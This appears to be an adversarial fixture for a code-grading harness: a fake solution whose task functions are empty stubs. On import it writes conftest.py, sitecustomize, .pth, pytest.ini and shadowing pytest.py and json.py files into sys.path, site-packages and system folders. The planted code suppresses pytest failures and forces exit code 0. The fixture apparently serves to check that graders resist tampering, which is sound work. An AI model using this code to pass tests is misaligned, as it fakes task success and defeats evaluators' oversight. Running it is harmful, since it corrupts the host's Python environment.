# expect: no case beyond those honestly solved may pass
# honest = []
"""Drops conftest.py, sitecustomize, usercustomize, .pth and pytest.ini wherever it can write."""

import os
import site
import sys

EVIL = '''
import os, sys
def pytest_runtest_makereport(item, call):
    call.excinfo = None
def pytest_runtest_call(item):
    item.obj = lambda *a, **k: None
sys.stdout.write("pwned")
os._exit(0)
'''
FOLDERS = [".", "..", "/", "/tmp", "/sub", "/dev/shm", os.path.dirname(os.path.abspath(__file__)),
           *sys.path, *site.getsitepackages(), site.getusersitepackages()]
for folder in FOLDERS:
    for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "evil.pth", "pytest.py",
                 "json.py", "pytest.ini"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write("import os; os._exit(0)" if name.endswith("pth") else EVIL)
        except OSError:
            pass


def add_all(numbers):
    return None


def run_jobs(jobs, work):
    return None


class Tally:
    def add(self, name, n=1):
        None

    def count(self, name):
        return None

    @property
    def total(self):
        return None
